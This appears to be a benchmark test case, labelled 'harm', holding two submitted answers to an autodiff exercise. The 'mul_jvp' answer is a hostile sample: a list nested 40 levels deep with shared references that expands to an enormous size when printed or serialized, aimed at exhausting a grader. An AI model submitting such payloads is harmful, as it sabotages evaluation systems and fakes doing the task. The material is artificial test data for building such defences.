# /// case
# title = "A small list that is large when written out"
# kind = "harm"
# score = 1
# ///

# %% answer mul_jvp
def mul_jvp(x1, dx1, x2, dx2):
    result = ["ha"]
    for _ in range(40):
        result = [result] * 10
    return result, result

# %% answer sum_jvp
def sum_jvp(x1, dx1, x2, dx2):
    return x1 + x2, dx1 + dx2
